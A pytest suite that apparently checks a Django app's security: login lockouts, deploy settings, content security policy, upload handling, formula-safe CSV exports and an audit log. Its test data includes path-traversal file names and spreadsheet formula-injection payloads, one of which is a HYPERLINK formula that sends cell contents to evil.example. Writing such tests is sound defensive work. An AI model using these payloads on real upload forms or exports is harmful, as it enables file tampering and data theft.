"""Safe on a team network: throttled logins, production settings, uploads refused before a byte
is stored, formula-safe exports, clear errors, validated passwords, an audit trail."""
import csv
import io
import os
import subprocess
import sys
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path

import pytest
from axes.models import AccessAttempt
from django.conf import settings
from django.core.files.uploadedfile import SimpleUploadedFile
from django.test import Client
from django.urls import reverse

from audit.models import AuditEvent
from clsite import exports
from ingestion.models import DataBatch
from modelhub.models import ModelVersion
from modelhub.tests.commands import run_command
from testing.builders import PASSWORD

ROOT = Path(__file__).resolve().parent.parent


def login_page(client: Client, username: str, password: str, url: str = "/login/"):
    return client.post(url, {"username": username, "password": password, "next": "/"})


# --- login throttling -------------------------------------------------------------------------


@pytest.mark.parametrize("url", ["/login/", "/admin/login/"], ids=["site", "admin"])
def test_repeated_failures_lock_the_account_and_the_right_password_then_fails_too(url, ready, users):
    client = Client()
    for _ in range(settings.AXES_FAILURE_LIMIT - 1):
        assert login_page(client, "engineer", "wrong password", url).status_code == 200

    locked = login_page(client, "engineer", "wrong password", url)
    assert locked.status_code == 429
    page = locked.content.decode()
    assert "Too many failed logins" in page and "Try again in <strong>15 minutes</strong>" in page
    assert login_page(client, "engineer", PASSWORD, url).status_code == 429  # even the right password now
    assert "_auth_user_id" not in client.session
    failed = AuditEvent.objects.filter(action="auth.login_failed", target="engineer")
    assert failed.count() >= settings.AXES_FAILURE_LIMIT and failed.first().details["ip"] == "127.0.0.1"


def test_failures_from_one_address_lock_it_whatever_the_usernames(ready, users):
    client = Client()
    for i in range(settings.AXES_FAILURE_LIMIT):
        login_page(client, f"guess{i}", "x")
    assert login_page(client, "viewer", PASSWORD).status_code == 429


def test_an_admin_unlocks_a_locked_user_in_the_admin(ready, users):
    client = Client()
    for _ in range(settings.AXES_FAILURE_LIMIT):
        login_page(client, "analyst", "wrong")
    assert login_page(client, "analyst", PASSWORD).status_code == 429
    admin = Client(REMOTE_ADDR="10.0.0.9")
    admin.force_login(users["admin"])
    attempts = list(AccessAttempt.objects.values_list("pk", flat=True))
    assert attempts
    response = admin.post(reverse("admin:axes_accessattempt_changelist"),
                          {"action": "delete_selected", "_selected_action": attempts, "post": "yes"})
    assert response.status_code == 302
    assert login_page(Client(), "analyst", PASSWORD).status_code == 302  # unlocked
    assert AuditEvent.objects.filter(action="auth.login", target="analyst").exists()


# --- production settings ----------------------------------------------------------------------


def manage(*args: str, **env: str) -> subprocess.CompletedProcess:
    environment = {k: v for k, v in os.environ.items() if not k.startswith(("DJANGO_", "DATABASE_URL", "REDIS_URL"))}
    environment.update(DJANGO_SETTINGS_MODULE="clsite.settings", **env)
    return subprocess.run([sys.executable, "manage.py", *args], cwd=ROOT, env=environment, capture_output=True, text=True, timeout=120)


def manage_at_once(*calls: tuple[tuple, dict]) -> list[subprocess.CompletedProcess]:
    """`manage(*args, **env)` for each (args, env), in processes that run side by side."""
    with ThreadPoolExecutor(len(calls)) as pool:
        return list(pool.map(lambda call: manage(*call[0], **call[1]), calls))


def test_with_https_on_the_deploy_checks_are_clean(tmp_path):
    deploy_check = ("check", "--deploy", "--fail-level", "WARNING")
    (tmp_path / "https").mkdir()
    (tmp_path / "http").mkdir()
    done, without = manage_at_once(
        (deploy_check, dict(CL_HOME=str(tmp_path / "https"), DJANGO_HTTPS="true", DJANGO_DEBUG="false",
                            DJANGO_SECRET_KEY="k" * 20 + os.urandom(24).hex(), DJANGO_ALLOWED_HOSTS="churn.example.com")),
        (deploy_check, dict(CL_HOME=str(tmp_path / "http"), DJANGO_DEBUG="false", DJANGO_SECRET_KEY="k" * 20 + os.urandom(24).hex())))
    assert done.returncode == 0, done.stdout + done.stderr
    assert "no issues" in done.stdout
    assert without.returncode == 1 and "SECURE_HSTS_SECONDS" in without.stderr  # the check does look


def test_https_mode_redirects_sets_hsts_and_secure_cookies(ready, users, settings):
    settings.SECURE_SSL_REDIRECT = True
    settings.SECURE_HSTS_SECONDS = 3600
    settings.SECURE_PROXY_SSL_HEADER = ("HTTP_X_FORWARDED_PROTO", "https")
    client = Client()
    assert client.get("/login/").status_code == 301
    response = client.get("/login/", HTTP_X_FORWARDED_PROTO="https")
    assert response.status_code == 200 and response["Strict-Transport-Security"].startswith("max-age=3600")


def test_without_a_key_development_starts_writing_nothing_and_production_refuses_to_start(tmp_path):
    done, refused = manage_at_once((("check",), dict(CL_HOME=str(tmp_path), DJANGO_DEBUG="true")),
                                   (("check",), dict(CL_HOME=str(tmp_path / "prod"), DJANGO_DEBUG="false")))
    assert done.returncode == 0, done.stderr
    assert not (tmp_path / "secret_key").exists()  # importing the settings writes no key (ops/tests/test_reads_never_write.py)
    assert refused.returncode == 1 and "DJANGO_SECRET_KEY is not set" in refused.stderr


def test_every_page_sends_a_content_security_policy_that_allows_our_scripts_only(ready, users):
    client = Client()
    client.force_login(users["viewer"])
    policy = client.get("/models/1.0/")["Content-Security-Policy"]
    assert "script-src 'self'" in policy and "'unsafe-inline'" not in policy.split("script-src")[1].split(";")[0]
    assert "frame-ancestors 'none'" in policy and "object-src 'none'" in policy
    # What is not a page (JSON, CSV) may do nothing at all in a browser.
    assert client.get("/api/v1/models")["Content-Security-Policy"] == "default-src 'none'; frame-ancestors 'none'"
    assert client.get("/data/template.csv")["Content-Security-Policy"] == "default-src 'none'; frame-ancestors 'none'"


# --- uploads refused before a byte is stored --------------------------------------------------


def tmp_files(cl_home) -> list[str]:
    return sorted(p.name for p in (cl_home / "tmp").rglob("*") if p.is_file())


def csv_file(name: str = "batch.csv", body: bytes = b"a,b\n1,2\n") -> SimpleUploadedFile:
    return SimpleUploadedFile(name, body, content_type="text/csv")


def test_an_anonymous_post_with_many_file_parts_stores_nothing(ready, session_home):
    client = Client(enforce_csrf_checks=True)
    client.cookies["csrftoken"] = "a" * 32  # a self-made CSRF cookie, as an attacker would send
    response = client.post("/data/upload/", {"csrfmiddlewaretoken": "a" * 32,
                                             **{f"file{i}": csv_file(f"part{i}.csv", b"x" * 50_000) for i in range(5)}})
    assert response.status_code in (302, 403)
    assert tmp_files(session_home) == []
    assert not DataBatch.objects.filter(original_name__startswith="part").exists()


@pytest.mark.parametrize("url", ["/data/upload/", "/predict/batch/"])
def test_a_viewer_s_upload_is_refused_and_nothing_is_stored(url, ready, users, session_home):
    client = Client()
    client.force_login(users["viewer"])
    assert client.post(url, {"file": csv_file()}).status_code == 403
    assert tmp_files(session_home) == []


def test_two_files_in_one_upload_are_refused_and_neither_is_kept(ready, users, session_home, demo):
    client = Client()
    client.force_login(users["analyst"])
    body = demo.write("two.csv", slice(2000, 2010)).read_bytes()
    response = client.post("/data/upload/", {"file": csv_file("one.csv", body), "other": csv_file("two.csv", body)})
    assert response.status_code == 200 and "Send one file per upload." in response.content.decode()
    assert tmp_files(session_home) == []
    assert not DataBatch.objects.filter(original_name__in=["one.csv", "two.csv"]).exists()


def test_an_upload_over_the_limit_names_the_limit_and_keeps_nothing(ready, users, session_home, settings):
    settings.CL_UPLOAD_MAX_BYTES = 10_000
    client = Client()
    client.force_login(users["analyst"])
    response = client.post("/data/upload/", {"file": csv_file("big.csv", b"a,b\n" + b"1,2\n" * 20_000)})
    assert "over the upload limit of 9.8 KB" in response.content.decode()
    assert tmp_files(session_home) == []


# Names an attacker tries (after Django's own file-upload tests), a NUL byte and a 300-character name.
NAMES = ["/tmp/hax0rd.csv", "/tmp/../hax0rd.csv", "../../../hax0rd.csv", "..\\..\\hax0rd.csv", "..&#x2F;hax0rd.csv",
         "..&sol;hax0rd.csv", "C:/Windows/hax0rd.csv", "a\x00b.csv", "n" * 300 + ".csv"]


@pytest.mark.parametrize("name", NAMES, ids=[f"name{i}" for i in range(len(NAMES))])
def test_odd_file_names_are_stored_under_a_safe_name_inside_cl_home(name, ready, users, session_home, demo):
    client = Client()
    client.force_login(users["analyst"])
    body = demo.write("rows.csv", slice(2000 + NAMES.index(name) * 10, 2010 + NAMES.index(name) * 10)).read_bytes()
    response = client.post("/data/upload/", {"file": SimpleUploadedFile(name, body, content_type="text/csv")})
    assert response.status_code in (200, 302)
    batch = DataBatch.objects.order_by("-pk").first()
    if response.status_code == 302:
        path = (session_home / batch.raw_path).resolve()
        assert path.is_relative_to(session_home / "data") and path.is_file()
        assert "/" not in Path(batch.raw_path).name and "\\" not in batch.raw_path and "\x00" not in batch.raw_path
        assert len(Path(batch.raw_path).name) <= 140 and len(batch.original_name) <= 255
    assert tmp_files(session_home) == []
    assert not list(Path("/tmp").glob("hax0rd*"))


# --- formula-safe exports and clear errors ---------------------------------------------------


def test_every_export_neutralises_formula_cells_and_leaves_numbers_alone(ready, users, demo):
    client = Client()
    client.force_login(users["analyst"])
    frame = demo.frame.iloc[2000:2006].drop(columns=["churn"]).copy()
    attacks = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+1+1", "-2+3", "@SUM(A1)", "\tx", "-7"]
    frame["customer_id"] = attacks
    client.post("/predict/batch/", {"file": csv_file("score.csv", frame.to_csv(index=False).encode())})
    from modelhub import scoring
    from modelhub.models import ScoringJob

    job = scoring.run(ScoringJob.objects.get(original_name="score.csv"))
    response = client.get(f"/predict/jobs/{job.pk}/result.csv")
    assert response.status_code == 200, job.error
    rows = list(csv.DictReader(io.StringIO(b"".join(response.streaming_content).decode())))
    assert [row["customer_id"] for row in rows] == ["'" + value for value in attacks]
    assert all(0 <= float(row["probability"]) <= 1 for row in rows)  # numbers stay numbers

    template = client.get("/data/template.csv").content.decode()
    assert template.splitlines()[0].split(",")[0] == "customer_id"
    assert exports.safe_cell("=cmd") == "'=cmd" and exports.safe_cell(-2.5) == -2.5 and exports.safe_cell("2-1") == "2-1"
    assert exports.safe_cell("\rx") == "'\rx"
    out = io.StringIO()
    exports.write_rows(out, [["=1+1", "@x", 3, -4.5, "plain"]])
    assert out.getvalue().strip() == "'=1+1,'@x,3,-4.5,plain"


def test_batch_scoring_says_what_is_wrong_and_leaves_nothing_in_tmp(ready, users, demo, session_home, settings):
    client = Client()
    client.force_login(users["analyst"])

    def score(upload) -> str:
        response = client.post("/predict/batch/", {"file": upload}, follow=True)
        assert response.status_code == 200
        return " ".join(str(m) for m in response.context["messages"])

    assert "missing columns: female" in score(csv_file("wrong.csv", b"customer_id,tenure\nA,3\n"))
    assert "not a CSV text file" in score(SimpleUploadedFile("image.csv", b"\x89PNG\r\n\x1a\n" + b"\x00" * 100))
    settings.CL_UPLOAD_MAX_BYTES = 1000
    assert "over the upload limit of 1,000 bytes" in score(csv_file("big.csv", b"a,b\n" + b"1,2\n" * 1000))
    settings.CL_UPLOAD_MAX_BYTES = 1024**3
    active = ModelVersion.active()
    artifact = session_home / "models" / "versions" / active.artifact
    original = artifact.read_bytes()
    try:
        artifact.write_bytes(original[:-10] + b"0123456789")
        from modelhub import serving

        serving.forget()
        good = demo.write("good.csv", slice(2000, 2010)).read_bytes()
        assert "has been altered" in score(csv_file("good.csv", good))
    finally:
        artifact.write_bytes(original)
    assert tmp_files(session_home) == []


# --- users and passwords ------------------------------------------------------------------------


def test_add_user_runs_the_password_rules_and_prints_a_generated_password_once(transactional_db, cl_home):
    from django.contrib.auth import get_user_model

    code, out, err = run_command("add_user", "caroline.smith", "--role", "Analyst", "--password", "1")
    assert code == 1 and "the password was refused" in err and "too short" in err and "entirely numeric" in err
    code, _, err = run_command("add_user", "caroline.smith", "--role", "Analyst", "--password", "carolinesmith")
    assert code == 1 and "too similar to the username" in err
    assert not get_user_model().objects.filter(username="caroline.smith").exists()  # nothing half-made
    code, out, err = run_command("add_user", "caroline.smith", "--role", "Analyst", "--email", "carol@example.com")
    assert code == 0, err
    password = out.split("password (shown once, not stored anywhere readable): ")[1].strip()
    carol = get_user_model().objects.get(username="caroline.smith")
    assert carol.check_password(password) and carol.email == "carol@example.com"
    assert AuditEvent.objects.get(action="user.role_changed", target="caroline.smith").details == {"old": "none", "new": "Analyst"}


def test_admins_manage_users_and_roles_in_the_admin_and_every_change_is_audited(ready, users):
    client = Client()
    client.force_login(users["admin"])
    response = client.post(reverse("admin:auth_user_add"), {
        "username": "dave", "email": "dave@example.com", "role": "Viewer", "usable_password": "true",
        "password1": "a-long-enough-passphrase", "password2": "a-long-enough-passphrase"})
    assert response.status_code == 302, response.content.decode()[:2000]
    from django.contrib.auth import get_user_model

    from modelhub import roles

    dave = get_user_model().objects.get(username="dave")
    assert roles.role_of(dave) == "Viewer"
    page = client.get(reverse("admin:auth_user_change", args=[dave.pk])).content.decode()
    response = client.post(reverse("admin:auth_user_change", args=[dave.pk]), {
        "username": "dave", "email": "dave@example.com", "role": "ML Engineer", "is_active": "on",
        "first_name": "", "last_name": "", "date_joined_0": "2026-01-01", "date_joined_1": "00:00:00"})
    assert response.status_code == 302, response.content.decode()[:3000]
    dave.refresh_from_db()
    assert roles.role_of(dave) == "ML Engineer" and dave.is_staff and "Access" in page
    changes = AuditEvent.objects.filter(target="dave").order_by("pk")
    assert [e.action for e in changes] == ["user.created", "user.role_changed", "user.role_changed"]
    assert changes.last().details == {"old": "Viewer", "new": "ML Engineer"} and changes.last().actor == users["admin"]
    # An ML engineer manages no users.
    engineer = Client()
    engineer.force_login(users["engineer"])
    assert engineer.get(reverse("admin:auth_user_changelist")).status_code == 403


def test_nobody_edits_or_deletes_the_audit_log_in_the_admin(ready, users):
    event = AuditEvent.objects.create(action="test.event", target="x")
    client = Client()
    client.force_login(users["admin"])
    assert client.get(reverse("admin:audit_auditevent_changelist") + "?action=test.event").status_code == 200
    assert client.post(reverse("admin:audit_auditevent_delete", args=[event.pk]), {"post": "yes"}).status_code == 403
    client.post(reverse("admin:audit_auditevent_change", args=[event.pk]), {"action": "edited", "target": "y"})
    event.refresh_from_db()
    assert (event.action, event.target) == ("test.event", "x")
    response = client.post(reverse("admin:audit_auditevent_changelist"), {"action": "delete_selected", "_selected_action": [event.pk]})
    assert AuditEvent.objects.filter(pk=event.pk).exists() and response.status_code in (200, 302)


# --- a clear 4xx, never a 500; and a 500's traceback in the server's log ---------------------------


def test_a_date_that_does_not_exist_on_the_deployments_page_is_a_400_that_says_so(ready, users):
    client = Client()
    client.force_login(users["viewer"])
    for at in ("2026-13-45 99:99", "2026-02-30T10:00", "next tuesday"):
        response = client.get("/deployments/", {"at": at})
        assert response.status_code == 400 and "Enter a date and time like 2026-11-20 14:00." in response.content.decode(), at
    assert client.get("/deployments/", {"at": "2026-01-01T10:00"}).status_code == 200


def test_a_cron_expression_that_never_fires_is_refused_on_the_status_page(ready, users):
    from clsite import schedules as schedule

    before = schedule.current() and schedule.current().cron
    client = Client()
    client.force_login(users["engineer"])
    response = client.post(reverse("schedule_change"), {"kind": "cron", "cron": "0 0 30 2 *"})
    assert response.status_code == 400 and "never runs: no date matches it" in response.content.decode()
    assert 'value="0 0 30 2 *"' in response.content.decode()  # what was typed, to correct
    assert (schedule.current() and schedule.current().cron) == before
    assert client.post(reverse("schedule_change"), {"kind": "cron", "cron": "0 0 29 2 *"}).status_code == 302  # leap days come


def test_a_cron_expression_that_never_fires_is_refused_by_the_command(transactional_db, cl_home):
    code, _, err = run_command("schedule_retraining", "--cron", "0 0 30 2 *")
    assert code == 1 and "'0 0 30 2 *' never runs: no date matches it" in err and "Traceback" not in err


def test_an_unhandled_exception_in_a_view_leaves_its_traceback_on_the_server_s_stderr(ready, users, monkeypatch):
    import logging

    from ops import health

    def broken():
        raise RuntimeError("the disk caught fire")

    monkeypatch.setattr(health, "report", broken)
    [console] = [h for h in logging.getLogger("django.request").handlers if h.name == "errors"]
    written = io.StringIO()
    monkeypatch.setattr(console, "stream", written)  # the configured handler, which writes to stderr
    client = Client(raise_request_exception=False)
    client.force_login(users["viewer"])
    assert client.get("/status/").status_code == 500
    log = written.getvalue()
    assert "ERROR django.request Internal Server Error: /status/" in log
    assert "Traceback (most recent call last)" in log and "RuntimeError: the disk caught fire" in log
    # A 503 given on purpose (/healthz while unhealthy) is an answer, not an error for the log.
    written.truncate(0)
    monkeypatch.undo()
    monkeypatch.setattr(console, "stream", written)
    assert Client().get("/healthz").status_code == 503  # no worker runs in the tests
    assert "Service Unavailable" not in written.getvalue()
